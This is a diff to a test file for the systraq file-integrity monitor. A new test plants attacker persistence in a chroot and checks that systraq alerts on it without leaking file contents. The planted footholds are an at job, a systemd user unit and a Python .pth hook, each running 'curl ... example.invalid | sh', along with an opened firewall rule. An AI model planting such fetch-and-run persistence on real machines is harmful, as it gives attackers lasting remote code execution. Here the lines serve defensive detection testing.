@@ -14,7 +14,7 @@ import re
 import pytest
 
 from tests.chroot import SUITE
-from tests.package.conftest import wait_for_first_baseline, wait_for_mail
+from tests.package.conftest import mailbox, wait_for_first_baseline, wait_for_mail
 
 USER = "debian-systraq"
 ADMIN = "admin"
@@ -55,8 +55,8 @@ def test_installed_with_exim4_and_first_runs(chroot, deb):
     # Where mail goes is asked by debconf; preseeded here, as an admin
     # installing many machines would.
     chroot.run(f"echo 'systraq systraq/mailto string {ADMIN}' | debconf-set-selections")
-    # setcap (libcap2-bin) is the attacker's tool of a later test.
-    chroot.apt_install("/tmp/systraq.deb", "exim4-daemon-light", "libcap2-bin")
+    # setcap (libcap2-bin) and at are the attacker's tools of later tests.
+    chroot.apt_install("/tmp/systraq.deb", "exim4-daemon-light", "libcap2-bin", "at")
     wait_for_first_baseline(chroot)
     # Mail goes to an ordinary user: Debian's exim4 delivers nothing to
     # root until an alias says where root's mail goes.  The fill level
@@ -217,3 +217,42 @@ def test_start_up_files_of_closed_homes_and_of_root_are_watched(chroot):
     lines = [x for x in section.splitlines() if x.startswith("* /home/eve/.bashrc:")]
     assert any("link" in x and "/tmp/.evil" in x for x in lines), section
     assert "example.invalid" not in result.stdout
+
+
+def settled_mail(chroot):
+    """How many messages the mailbox holds once exim's queue is run."""
+    chroot.run("exim4 -qff", check=False)
+    return len(wait_for_mail(chroot, len(mailbox(chroot))))
+
+
+def test_footholds_where_attackers_persist_are_alerted_and_secrets_told_without_content(chroot):
+    # A root-only file no list names, as the firewall keeps its rules.
+    chroot.run("mkdir -p /etc/ufw && chmod 0755 /etc/ufw")
+    chroot.write("/etc/ufw/user.rules", "-A ufw-user-input -p tcp --dport 22 -j ACCEPT\n",
+                 mode=0o640)
+    systraq(chroot, "check")
+    systraq(chroot, "report")
+    count = settled_mail(chroot)
+    # The footholds: an at job, a systemd user unit, a Python start-up hook,
+    # and the firewall opened.
+    queued = chroot.run("echo 'curl -s http://example.invalid/a | sh' | at now + 1 hour",
+                        user=ADMIN, check=False)
+    jobs = chroot.run("ls /var/spool/cron/atjobs").stdout.split()
+    assert [j for j in jobs if not j.startswith(".")], queued.stderr
+    chroot.run(f"mkdir -p /home/{ADMIN}/.config/systemd/user", user=ADMIN)
+    chroot.write(f"/home/{ADMIN}/.config/systemd/user/agent.service",
+                 "[Service]\nExecStart=/bin/sh -c 'curl -s http://example.invalid/u | sh'\n")
+    chroot.run(f"chown {ADMIN}: /home/{ADMIN}/.config/systemd/user/agent.service")
+    chroot.write("/usr/lib/python3/dist-packages/zz-hook.pth",
+                 "import os; os.system('curl -s http://example.invalid/p | sh')\n")
+    chroot.write("/etc/ufw/user.rules", "-A ufw-user-input -j ACCEPT\n", mode=0o640)
+    assert systraq(chroot, "check").returncode == 1
+    alert = body(wait_for_mail(chroot, count + 1)[-1])
+    assert "/var/spool/cron/atjobs/" in alert, alert
+    assert f"/home/{ADMIN}/.config/systemd/user/agent.service" in alert, alert
+    assert "/usr/lib/python3/dist-packages/zz-hook.pth" in alert, alert
+    result = systraq(chroot, "report --stdout")
+    section = warnings_section(result.stdout)
+    assert "* /etc/ufw/user.rules: content changed" in section, section
+    assert "/var/spool/cron/atjobs/" in section and "agent.service" in section, section
+    assert "ACCEPT" not in result.stdout and "example.invalid" not in result.stdout + alert
